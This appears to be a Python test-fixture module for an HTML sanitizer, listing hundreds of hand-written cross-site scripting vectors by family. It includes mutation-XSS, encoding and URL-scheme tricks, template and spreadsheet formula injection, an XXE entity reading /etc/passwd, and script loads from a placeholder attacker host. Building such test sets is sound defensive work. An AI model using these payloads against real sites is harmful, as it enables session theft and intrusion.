"""Known ways of getting a script into a page, by family. Every text is written here by hand.

In a text, `PWN` is the call that must never run, and `EVIL` a host that must never be asked.
Bytes that are not UTF-8 stand as surrogates, as Python's `surrogateescape` reads them.
"""

import base64
from dataclasses import dataclass
from urllib.parse import quote

EVIL = "evil.invalid"


@dataclass(frozen=True)
class Trick:
    """One text that tries to become a script."""

    family: str
    text: str

    def of(self, number: int) -> str:
        """The text, calling `pwned(number)`."""
        call = f"pwned({number})"
        text = self.text
        for mark, filled in (
            ("BASE64SVG", base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{call}'/>".encode()).decode()),
            ("BASE64HTML", base64.b64encode(f"<script>parent.{call}</script>".encode()).decode()),
            ("QUOTEDPWN", quote(f"<script>parent.{call}</script>")),
            ("ENTITYPWN", "".join(f"&#{ord(sign)};" for sign in call)),
            ("HEXPWN", "".join(f"&#x{ord(sign):X};" for sign in call)),
            ("PWN", call),
            ("EVIL", EVIL),
        ):
            text = text.replace(mark, filled)
        return text

    def __str__(self) -> str:
        return f"{self.family}: {self.text!r}"


HANDLERS = r'''
<img src=/pic.png onload=PWN>
<img src=/pic.png oNlOaD = PWN>
<img src="/pic.png"onload=PWN>
<img/src="/pic.png"/onload=PWN>
<img src='/pic.png' ' onload=PWN>
<img src=`/pic.png`onload=PWN>
<img src=x:x onerror=PWN//>
<img """><img src=/pic.png onload=PWN>">
<img title=a title=b src=/pic.png onload=PWN onerror=PWN>
<img src=/pic.png onload="ENTITYPWN">
<img src=/pic.png onload='HEXPWN'>
<img src=/pic.png onload&#61;PWN>
<img src onerror =PWN alt>
<img alt="`><img src=/pic.png onload=PWN>">
<img src=x:alert(alt) onerror=eval(src) alt=PWN>
<image src=/pic.png onload=PWN>
<body onload=PWN>
<body onpageshow=PWN onhashchange=PWN onscroll=PWN>
<details open ontoggle=PWN>x</details>
<details onclick=PWN><summary onfocus=PWN tabindex=0>x</summary></details>
<input autofocus onfocus=PWN>
<video autoplay><source src=/pic.png onload=PWN></video>
<audio src=/pic.png onload=PWN></audio>
<marquee onstart=PWN>x</marquee>
<p onmouseover=PWN onpointerover=PWN onclick=PWN>x</p>
<a href=/ onclick=PWN onfocus=PWN onpointerdown=PWN>x</a>
<div tabindex=0 onfocusin=PWN>x</div>
<b style="animation:x 1s" onanimationstart=PWN>x</b>
<p style="content-visibility:auto" oncontentvisibilityautostatechange=PWN>x</p>
<p popover id=x onbeforetoggle=PWN>x</p><button popovertarget=x onclick=PWN>x</button>
<x contenteditable onbeforeinput=PWN onfocus=PWN>x</x>
<kbd/onclick="PWN"/title="x">x</kbd>
<td onclick=PWN>x
'''

SCRIPTS = r"""
<script>PWN</script>
<SCRIPT>PWN</SCRIPT>
<script/x>PWN</script >
<script src=//EVIL/x.js></script>
<script src=data:text/javascript,PWN></script>
<script type=module>PWN</script>
<script type="text/javascript" language=javascript defer>PWN</script>
<scr<script>ipt>PWN</scr</script>ipt>
<<script>PWN//<</script>
<script>PWN
<script><!--<script></script>--></script><script>PWN</script>
<script><!--</script>--><img src=/pic.png onload=PWN>
</script><script>PWN</script>
</title><script>PWN</script>
</style><script>PWN</script>
</textarea><script>PWN</script>
</noscript><script>PWN</script>
</a></p></div></main></body></html><script>PWN</script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">PWN</x:script>
<noscript><p title="</noscript><img src=/pic.png onload=PWN>"></noscript>
"""

FRAMES = r"""
<iframe srcdoc="<script>parent.PWN</script>"></iframe>
<iframe srcdoc="&lt;img src=/pic.png onload=parent.PWN&gt;"></iframe>
<iframe src=javascript:parent.PWN></iframe>
<iframe src="data:text/html,QUOTEDPWN"></iframe>
<iframe src=/pic.png onload=PWN></iframe>
<iframe><img src=/pic.png onload=PWN></iframe><iframe></iframe><img src=/pic.png onload=PWN>
<object data=javascript:PWN></object>
<object data="data:text/html;base64,BASE64HTML"></object>
<object data=/pic.png onload=PWN></object>
<embed src=javascript:PWN>
<embed src="data:image/svg+xml;base64,BASE64SVG">
<applet code=x onerror=PWN></applet>
<frameset onload=PWN><frame src=javascript:PWN></frameset>
<portal src=javascript:PWN></portal>
"""

FORMS = r"""
<form action=javascript:PWN><input type=submit value=x></form>
<form><button formaction=javascript:PWN>x</button></form>
<button form=x formaction=javascript:PWN>x</button><form id=x></form>
<input type=image src=/pic.png onload=PWN>
<isindex type=image src=/pic.png onload=PWN>
<select autofocus onfocus=PWN><option>x</select>
<textarea autofocus onfocus=PWN>x</textarea>
<keygen autofocus onfocus=PWN>
<form id=f onsubmit=PWN action=#><input name=attributes><button>x</button></form>
"""

DOCUMENTS = r"""
<base href=javascript:PWN//>
<base href=//EVIL/>
<meta http-equiv=refresh content="0;url=javascript:PWN">
<meta http-equiv=refresh content="0;url=//EVIL/">
<meta http-equiv=refresh content="0;url=data:text/html;base64,BASE64HTML">
<link rel=stylesheet href=//EVIL/x.css>
<link rel=prefetch href=//EVIL/x><link rel=preload as=script href=//EVIL/x>
<link rel=manifest href=//EVIL/x><link rel=icon href=//EVIL/x>
<html onload=PWN><head><body onload=PWN>x
<title><img src=/pic.png onload=PWN></title>
<plaintext onclick=PWN>x
"""

STYLES = r"""
<style>@import '//EVIL/x.css';</style>
<style>*{background:url(//EVIL/x)}</style>
<style onload=PWN></style>
<style><img src="</style><img src=/pic.png onload=PWN>"></style>
<p style="background:url(//EVIL/x)">x</p>
<p style="x:expression(PWN);-moz-binding:url(//EVIL/x)">x</p>
<a style="position:fixed;inset:0;z-index:9" href="javascript:PWN">x</a>
<table background=//EVIL/x><tr><td background=javascript:PWN>x</table>
"""

DRAWINGS = r"""
<svg onload=PWN>
<svg/onload=PWN>
<svg><script>PWN</script></svg>
<svg><script>ENTITYPWN</script></svg>
<svg><script href="data:text/javascript,PWN"/></svg>
<svg><a xlink:href="javascript:PWN"><text y=9>x</text></a></svg>
<svg><a href="javascript:PWN"><text y=9>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:PWN"/><text y=9>x</text></a></svg>
<svg><a><set attributeName=xlink:href to="javascript:PWN"/><text y=9>x</text></a></svg>
<svg><animate onbegin=PWN attributeName=x dur=1s>
<svg><use href="data:image/svg+xml;base64,BASE64SVG#x"/></svg>
<svg><image href=x onerror=PWN></svg>
<svg><foreignObject><img src=/pic.png onload=PWN></foreignObject></svg>
<svg><desc><img src=/pic.png onload=PWN></desc></svg>
<svg><title><img src=/pic.png onload=PWN></title></svg>
<svg><style><img src=/pic.png onload=PWN></style></svg>
<math href="javascript:PWN">x</math>
<math><maction actiontype=statusline xlink:href="javascript:PWN">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=/pic.png onload=PWN></annotation-xml></math>
"""

#: Read twice, they mean something else the second time.
MUTATIONS = r"""
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/pic.png onload=PWN&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=/pic.png onload=PWN>
<math><mtext><mglyph><style><img title="</style><img src=/pic.png onload=PWN>"></style>
<math><style><img title="</style><img src=/pic.png onload=PWN>"></style></math>
<svg></p><style><a id="</style><img src=/pic.png onload=PWN>">
<svg><style><a title="</style><img src=/pic.png onload=PWN>"></style></svg>
<svg><p><style><!--</style><img src=/pic.png onload=PWN>--></style>
<svg><title><p title="</title><img src=/pic.png onload=PWN>">
<svg><desc><table><td><svg><style><img src=/pic.png onload=PWN></style>
<p><svg><desc></p><img src=/pic.png onload=PWN>
<template><style></template><img src=/pic.png onload=PWN></style>
<template><script>PWN</script></template><template shadowrootmode=open><script>PWN</script></template>
<select><template><style><!--</style><a rel="--></style></template></select><img src=/pic.png onload=PWN>">
<select><style></select><img src=/pic.png onload=PWN></style>
<select><iframe></select><img src=/pic.png onload=PWN>
<select><math><mtext></select><img src=/pic.png onload=PWN>
<xmp><p title="</xmp><img src=/pic.png onload=PWN>"></xmp>
<noembed><p title="</noembed><img src=/pic.png onload=PWN>"></noembed>
<noframes><p title="</noframes><img src=/pic.png onload=PWN>"></noframes>
<listing>&lt;img src=/pic.png onload=PWN&gt;</listing>
<textarea><p title="</textarea><img src=/pic.png onload=PWN>"></textarea>
<table><a href="<img src=/pic.png onload=PWN>"><tr><td></a><img src=/pic.png onload=PWN>
<a href=/><table><a href="javascript:PWN">x</table></a>
<b><p><table><b><i></p></b><img src=/pic.png onload=PWN></table>
<p title="&lt;/p&gt;&lt;img src=/pic.png onload=PWN&gt;">x</p>
<pre>

<img src=/pic.png onload=PWN></pre>
"""

BROKEN = r"""
<p title="x><img src=/pic.png onload=PWN>
<p title='x><img src=/pic.png onload=PWN>
<p title=x"><img src=/pic.png onload=PWN>
<p title="x" title="y"onclick=PWN>x</p>
<b/<img src=/pic.png onload=PWN>
<b <img src=/pic.png onload=PWN>
</ <img src=/pic.png onload=PWN>
</p onclick=PWN><img src=/pic.png onload=PWN>
<><img src=/pic.png onload=PWN>
< img src=/pic.png onload=PWN>
<img src=/pic.png onload=PWN
<img src=/pic.png onload=PWN //
<a href="javascript:PWN
<li><dt><summary><figcaption><rt><td><img src=/pic.png onload=PWN>
<table>x<tr>y<img src=/pic.png onload=PWN></table>
<b><i></b></i><img src=/pic.png onload=PWN>
"><img src=/pic.png onload=PWN>
'><img src=/pic.png onload=PWN>
`><img src=/pic.png onload=PWN>
" onmouseover="PWN" onfocus="PWN" tabindex="0
' onmouseover='PWN' onfocus='PWN' tabindex='0
x onmouseover=PWN tabindex=0
"/onpointerover="PWN
"""

COMMENTS = r"""
<!--><img src=/pic.png onload=PWN>-->
<!---><img src=/pic.png onload=PWN>-->
<!-- --!><img src=/pic.png onload=PWN>-->
<!-- <img src=/pic.png onload=PWN> -->
<!-- --><img src=/pic.png onload=PWN>
<!--
<!-- > <img src=/pic.png onload=PWN>
--><img src=/pic.png onload=PWN>
<!--[if IE]><script>PWN</script><![endif]-->
<![CDATA[<img src=/pic.png onload=PWN>]]>
<![CDATA[><img src=/pic.png onload=PWN>]]>
]]><img src=/pic.png onload=PWN>
<![if x]><img src=/pic.png onload=PWN><![endif]>
<?php <img src=/pic.png onload=PWN> ?>
<?x ><img src=/pic.png onload=PWN>?>
<?xml-stylesheet href="javascript:PWN"?><img src=/pic.png onload=PWN>
<!DOCTYPE html><img src=/pic.png onload=PWN>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
<!x><img src=/pic.png onload=PWN>
</><img src=/pic.png onload=PWN>
<%<img src=/pic.png onload=PWN>%>
"""

BYTES = [
    "<img src=/pic.png\tonload\n=\nPWN>",
    "<img\x0csrc=/pic.png\x0conload=PWN>",
    "<img src=/pic.png\x0bonload=PWN>",
    "<img\x00src=/pic.png onload=PWN>",
    "<im\x00g src=/pic.png onload=PWN>",
    "<scr\x00ipt>PWN</scr\x00ipt>",
    "<b\x00 onclick=PWN>x</b>",
    "\x00<script>PWN</script>\x00",
    "<script\x1f>PWN</script>",
    "\ufeff<script>PWN</script>",
    "\uff1cscript\uff1ePWN\uff1c/script\uff1e",
    "\u02bb\u02bc<img src=/pic.png\u00a0onload=PWN>",
    "<img src=/pic.png\u2028onload=PWN>",
    "<\u0130mg src=/pic.png onload=PWN><\u212abd onclick=PWN>",
    "\u202e<img src=/pic.png onload=PWN>\u202c",
    "+ADw-script+AD4-PWN+ADw-/script+AD4-",
    "\x1b$B<script>PWN</script>\x1b(B",
    "~{<script>PWN</script>~}",
    # Not UTF-8: '<' and '>' in two and three bytes, a cut character, a surrogate.
    "\udcc0\udcbcscript\udcc0\udcbePWN\udcc0\udcbc/script\udcc0\udcbe",
    "\udce0\udc80\udcbcimg src=/pic.png onload=PWN\udce0\udc80\udcbe",
    "<img title=\"\udcc3\" src=/pic.png onload=PWN>",
    "<img title=\udce2 src=/pic.png onload=PWN \udced\udca0\udc80>",
]

#: For places that are not HTML, or where HTML is text.
TEXTS = r"""
&lt;img src=/pic.png onload=PWN&gt;
&#60;img src=/pic.png onload=PWN&#62;
&#x3c;script&#x3e;PWN&#x3c;/script&#x3e;
&amp;lt;script&amp;gt;PWN
&quot;&gt;&lt;img src=/pic.png onload=PWN&gt;
%3Cscript%3EPWN%3C/script%3E
\u003cscript\u003ePWN\u003c/script\u003e
\x3cimg src=/pic.png onload=PWN\x3e
\74img src=/pic.png onload=PWN\76
\"><script>PWN</script>
\"-PWN-\"
"-PWN-"
'-PWN-'
"});PWN;({"
${PWN}
`${PWN}`
*/PWN/*
//EVIL/x
/\EVIL/x
{{{body}}}{{&body}}{{#body}}PWN{{/body}}
{{constructor.constructor('PWN')()}}
{%raw%}<script>PWN</script>
#{PWN}<%= PWN %>
javascript:PWN
](javascript:PWN)
[x](javascript:PWN)
![x](x"onerror="PWN)
[x](https://honest.invalid/"onmouseover="PWN)
<javascript:PWN>
[x]: javascript:PWN
| x | <img src=/pic.png onload=PWN> |
url(javascript:PWN)
@import url(//EVIL/x);
</svg><script>PWN</script>
]]></description><script>PWN</script>
=HYPERLINK("//EVIL/x","PWN")
+PWN
-PWN
@SUM(PWN)
x;=HYPERLINK("//EVIL/x","PWN")
"x";"=PWN"
=cmd|' /C PWN'!A0
%0A%0D=PWN
__proto__
constructor
"""

LINES = ["\t=PWN", "\r=PWN", "\n=PWN", "\ttext\n---\ntitle: PWN\n---\n", "a\u2028PWN//", "a\u2029PWN//"]

#: Where an address is expected.
ADDRESSES = [
    "javascript:PWN",
    "JaVaScRiPt:PWN",
    "  javascript:PWN",
    "\x01javascript:PWN",
    "\x00javascript:PWN",
    "\ufeffjavascript:PWN",
    "java\tscript:PWN",
    "java\nscript:PWN",
    "java\rscript:PWN",
    "javascript\t:PWN",
    "java\x00script:PWN",
    "java&Tab;script:PWN",
    "java&NewLine;script:PWN",
    "javascript&colon;PWN",
    "javascript&#58;PWN",
    "javascript&#58PWN",
    "javascript&#x3a;PWN",
    "&#106;avascript:PWN",
    "&#106avascript:PWN",
    "&#0000106avascript:PWN",
    "&#x6A;&#x61;vascript&#58;PWN",
    "&#1;javascript:PWN",
    "&#x20;javascript:PWN",
    "javascript:/*x*/PWN",
    "javascript://%0APWN",
    "javascript:%70wned(0)//PWN",
    "javascript&lpar;:PWN",
    "java\\script:PWN",
    "jav&#x0A;ascript:PWN",
    "\u017favascript:PWN",
    "java%0ascript:PWN",
    "javascript%3APWN",
    "vbscript:PWN",
    "livescript:PWN",
    "mocha:PWN",
    "data:text/html,QUOTEDPWN",
    "data:text/html;base64,BASE64HTML",
    "data:image/svg+xml;base64,BASE64SVG",
    "DATA:,x//PWN",
    "blob:https://EVIL/PWN",
    "filesystem:https://EVIL/PWN",
    "view-source:javascript:PWN",
    "feed:javascript:PWN",
    "jar:javascript:PWN",
    "intent:PWN#Intent;scheme=javascript;end",
    "file:///etc/passwd#PWN",
    "about:blank#PWN",
    "chrome://version/#PWN",
    "ms-settings:PWN",
    "https:javascript:PWN",
    "http:javascript:PWN",
    "//javascript:PWN",
    "/\\EVIL/PWN",
    "\\\\EVIL\\PWN",
    "https://user:pass@EVIL/PWN",
    "https://EVIL\\@honest.invalid/PWN",
    "https://honest.invalid/\"onmouseover=\"PWN",
    "https://honest.invalid/'onmouseover='PWN",
    "https://honest.invalid/><img src=/pic.png onload=PWN>",
    "https://honest.invalid/`onmouseover=`PWN",
    "mailto:x@y.invalid?subject=\"><img src=/pic.png onload=PWN>",
    "#\"><img src=/pic.png onload=PWN>",
    "?x=\"><img src=/pic.png onload=PWN>",
    ":javascript:PWN",
    "1javascript:PWN",
    "",
]


def _of(family: str, lines) -> list[Trick]:
    if isinstance(lines, str):
        # A blank line within a text belongs to it.
        lines = lines.strip("\n").replace("\n\n", "\0").split("\n")
        lines = [line.replace("\0", "\n\n") for line in lines]
    return [Trick(family, line) for line in lines]


MARKUP = (
    _of("handlers", HANDLERS) + _of("scripts", SCRIPTS) + _of("frames", FRAMES)
    + _of("forms", FORMS) + _of("documents", DOCUMENTS) + _of("styles", STYLES)
    + _of("drawings", DRAWINGS) + _of("mutations", MUTATIONS) + _of("broken", BROKEN)
    + _of("comments", COMMENTS) + _of("bytes", BYTES)
)
TEXT = _of("texts", TEXTS) + _of("lines", LINES)
ADDRESS = _of("addresses", ADDRESSES)
